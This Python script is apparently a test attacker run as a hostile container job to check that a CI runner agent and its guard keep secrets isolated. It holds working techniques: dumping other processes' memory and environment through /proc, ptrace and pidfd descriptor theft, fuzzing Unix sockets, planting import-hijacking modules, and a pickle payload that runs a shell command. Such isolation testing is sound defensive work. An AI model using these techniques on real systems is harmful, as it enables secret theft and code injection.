"""A hostile job in a container, as a program of its own: `python3 pod_attacker.py LOOT ROOT
WORDS...`. Python 3.9, standard library only. What it tries is made from what is there: every
entry below ROOT, every process, every socket.

`look` reads and asks; `plant` puts modules wherever it may write; `replace-KIND` puts something
else in the place of every entry that it may replace. LOOT/secrets has the patterns that it must
not find, LOOT/attempts-UID how often it tried, and LOOT/gained-* what it got.
"""

from __future__ import annotations

import ctypes
import json
import os
import pkgutil
import re
import socket
import stat
import sys
from collections.abc import Callable, Iterator
from pathlib import Path

PTRACE_SEIZE = 0x4206
PIDFD_OPEN = 434
PIDFD_GETFD = 438
"""https://man7.org/linux/man-pages/man2/ptrace.2.html; numbers of x86-64 and arm64 alike."""
QUESTIONS = [
    "watch",
    "start",
    "beat",
    "claimed",
    "joined",
    "leave",
    "restart",
    "waiting",
    "answer",
    "clean_up",
    "__init__",
]
PAYLOAD = """import os
try:
    import gc, json
    secret = ("AgentSpec", "Guard")
    held = [repr(vars(one)) for one in gc.get_objects() if type(one).__name__ in secret]
    said = open("/proc/self/cmdline").read()
    if held or "agent.pyz" in said:
        loot = "LOOT/gained-import-%s-%d" % (__name__, os.getpid())
        open(loot, "w").write(json.dumps([said, held]))
except OSError:
    pass
raise ImportError("not here")
"""
"""A module. It tells of itself only where it is in the agent or its guard, since jobs may run
what they like."""
SCRIPT = """#!/bin/sh
if env | grep -qEf LOOT/secrets ||
   tr '\\0' ' ' < /proc/$PPID/cmdline | grep -q 'agent.pyz guard'; then
env > "LOOT/gained-run-$$"
fi
exit 0
"""
"""The agent runs what the runner is made of, as the jobs' user and with nothing that is not
theirs; the guard runs nothing."""
PICKLE = """cos
system
(S'echo "$PPID" > LOOT/gained-pickle-$$'
tR."""
LIES = json.dumps(
    {
        "agentId": 1,
        "poolId": 1,
        "agentName": "victim",
        "runner_id": 1,
        "max_lifetime": None,
        "state": "idle",
    }
)
LATE = ["sitecustomize", "usercustomize", "agent", "_strptime", "stringprep", "unicodedata", "idna"]


class Attack:
    """What is tried by one user in one container."""

    def __init__(self, loot: Path, root: Path) -> None:
        self.loot, self.root = loot, root
        self.patterns = [line.encode() for line in (loot / "secrets").read_text().splitlines()]
        self.tried: dict[str, int] = {}

    # --- what there is

    def entries(self) -> Iterator[Path]:
        """All below the root that can be seen, deepest first."""
        for place, folders, files in os.walk(str(self.root), topdown=False):
            yield from (Path(place) / name for name in [*files, *folders])

    def folders(self) -> list[Path]:
        found = [
            self.root,
            *(path for path in self.entries() if path.is_dir() and not path.is_symlink()),
        ]
        return [path for path in found if os.access(str(path), os.W_OK | os.X_OK)]

    def processes(self) -> list[int]:
        return [
            int(name) for name in os.listdir("/proc") if name.isdigit() and int(name) != os.getpid()
        ]

    # --- what came of it

    def attempt(self, kind: str, act: Callable[[], object]) -> None:
        """Whatever it gives back is looked through."""
        self.tried[kind] = self.tried.get(kind, 0) + 1
        try:
            got = act()
        except Exception:  # noqa: BLE001  refused, one way or another
            return
        if isinstance(got, bytes):
            self.search(kind, got)

    def search(self, kind: str, content: bytes) -> None:
        for pattern in self.patterns:
            if re.search(pattern, content):
                self.gained(kind, pattern)

    def gained(self, kind: str, what: bytes) -> None:
        words = re.sub(r"\W+", "-", kind)[:100]
        name = f"gained-{words}-{os.getpid()}-{sum(self.tried.values())}"
        (self.loot / name).write_bytes(kind.encode() + b": " + what)

    # --- the kinds

    def look(self) -> None:
        self.search("own environment", "\0".join(os.environ.values()).encode())
        for path in self.entries():
            self.attempt(f"read {path}", lambda path=path: self.read(path))  # type: ignore[misc]
            if path.is_socket():
                self.ask(path)
        for pid in self.processes():
            self.pry(pid)

    @staticmethod
    def read(path: Path) -> bytes:
        handle = os.open(str(path), os.O_RDONLY | os.O_NONBLOCK)
        with open(handle, "rb") as file:
            return file.read(64 << 20) if stat.S_ISREG(os.fstat(handle).st_mode) else b""

    def ask(self, path: Path) -> None:
        """All that a guard may be asked, by one who has no key, and what is no question at all."""
        told = [
            json.dumps({"call": call, **more})
            for call in QUESTIONS
            for more in ({}, {"key": ""}, {"key": None}, {"key": "0" * 32})
        ]
        told += [
            "",
            "null",
            "[]",
            "{}",
            '{"call": []}',
            '{"call": "watch", "full": {}}',
            "x" * (2 << 20),
        ]
        for line in told:
            self.attempt(f"ask {line[:40]}", lambda line=line: self.answer(path, line))  # type: ignore[misc]
        for sign in ('"spec"', '"key"'):
            self.patterns.append(sign.encode())
            self.attempt("ask to begin", lambda: self.answer(path, '{"call": "start"}'))
            self.patterns.pop()

    @staticmethod
    def answer(path: Path, line: str) -> bytes:
        with socket.socket(socket.AF_UNIX) as asking:
            asking.settimeout(5)
            asking.connect(str(path))
            asking.sendall(line.encode() + b"\n")
            asking.shutdown(socket.SHUT_WR)
            return asking.recv(1 << 20)

    def pry(self, pid: int) -> None:
        """Into a process: its files in /proc, its memory, what it has open, its view, itself."""
        for name in ("environ", "cmdline", "auxv", "maps", "stack", "syscall", "mountinfo"):
            self.attempt(
                f"proc {name} of {pid}",
                lambda name=name: Path(f"/proc/{pid}/{name}").read_bytes(),  # type: ignore[misc]
            )
        self.attempt(f"memory of {pid}", lambda: self.memory(pid))
        for name in ("root", "cwd"):
            place = Path(f"/proc/{pid}/{name}")
            self.attempt(
                f"{name} of {pid}",
                lambda place=place: "\0".join(os.listdir(str(place))).encode(),  # type: ignore[misc]
            )
            inside = place / str(self.root).lstrip("/") / "volumes/told/spec.json"
            self.attempt(f"told by {name} of {pid}", lambda inside=inside: self.read(inside))  # type: ignore[misc]
        try:
            opened = os.listdir(f"/proc/{pid}/fd")
        except OSError:
            opened = [str(number) for number in range(16)]
        for number in opened:
            self.attempt(
                f"fd {number} of {pid}",
                lambda number=number: self.read(Path(f"/proc/{pid}/fd/{number}")),  # type: ignore[misc]
            )
        self.trace(pid)

    @staticmethod
    def memory(pid: int) -> bytes:
        with open(f"/proc/{pid}/mem", "rb", 0) as memory:
            found = []
            for line in Path(f"/proc/{pid}/maps").read_text().splitlines():
                words = line.split()
                begin, end = (int(number, 16) for number in words[0].split("-"))
                if words[1].startswith("rw") and end - begin < 64 << 20:
                    memory.seek(begin)
                    found.append(memory.read(end - begin))
            return b"".join(found)

    def trace(self, pid: int) -> None:
        """Of the agent and its guard alone: what a job does to its own processes is nobody's
        business, nor to a watchdog's, which has no key and which it may start itself."""
        libc = ctypes.CDLL(None, use_errno=True)
        try:
            said = Path(f"/proc/{pid}/cmdline").read_bytes()
        except OSError:  # it has ended since
            return
        if b"agent.pyz" not in said or b"\0watchdog\0" in said:
            return
        self.tried["trace"] = self.tried.get("trace", 0) + 1
        if libc.ptrace(PTRACE_SEIZE, pid, 0, 0) == 0:
            self.gained("trace", said)
        handle = libc.syscall(PIDFD_OPEN, pid, 0)
        for number in range(16):
            self.tried["pidfd"] = self.tried.get("pidfd", 0) + 1
            got = libc.syscall(PIDFD_GETFD, handle, number, 0)
            if got >= 0:
                os.close(got)
                self.gained("pidfd", said)

    def plant(self) -> None:
        """A module of every name that Python knows, in every folder that may be written; and one
        package of each."""
        names = {
            *LATE,
            *sys.builtin_module_names,
            *(one.name for one in pkgutil.iter_modules()),
            *sys.modules,
        }
        for folder in self.folders():
            for name in names:
                self.attempt("plant", lambda folder=folder, name=name: self.module(folder, name))  # type: ignore[misc]

    def module(self, folder: Path, name: str) -> None:
        path = folder / (name.replace(".", "/") + ".py")
        path.parent.mkdir(exist_ok=True)
        with open(os.open(str(path), os.O_CREAT | os.O_EXCL | os.O_WRONLY, 0o644), "w") as file:
            file.write(PAYLOAD.replace("LOOT", str(self.loot)))

    def replace(self, kind: str) -> None:
        for path in self.entries():
            self.attempt(f"replace {path}", lambda path=path: self.instead(path, kind))  # type: ignore[misc]

    def instead(self, path: Path, kind: str) -> None:
        """A folder stays unless something else is put there, so that what is in it can be tried
        as well."""
        folder = path.is_dir() and not path.is_symlink()
        if folder and kind not in ("link", "fifo"):
            return
        os.rename(str(path), f"{path}.was-{os.getpid()}")
        if kind == "link":
            path.symlink_to(self.loot / "secrets" if not folder else self.loot)
        elif kind == "fifo":
            os.mkfifo(str(path))
        elif kind == "folder":
            path.mkdir()
        else:
            told = {"script": SCRIPT, "lies": LIES, "pickle": PICKLE}[kind]
            path.write_text(told.replace("LOOT", str(self.loot)))
            path.chmod(0o755)


def main(loot: str, root: str, *words: str) -> None:
    attack = Attack(Path(loot), Path(root))
    for word in words:
        if word.startswith("replace-"):
            attack.replace(word.partition("-")[2])
        else:
            {"look": attack.look, "plant": attack.plant}[word]()
        with open(str(attack.loot / f"attempts-{os.getuid()}"), "a") as file:
            file.write(f"{word} {sum(attack.tried.values())}\n")
        attack.tried = {}


if __name__ == "__main__":
    main(*sys.argv[1:])
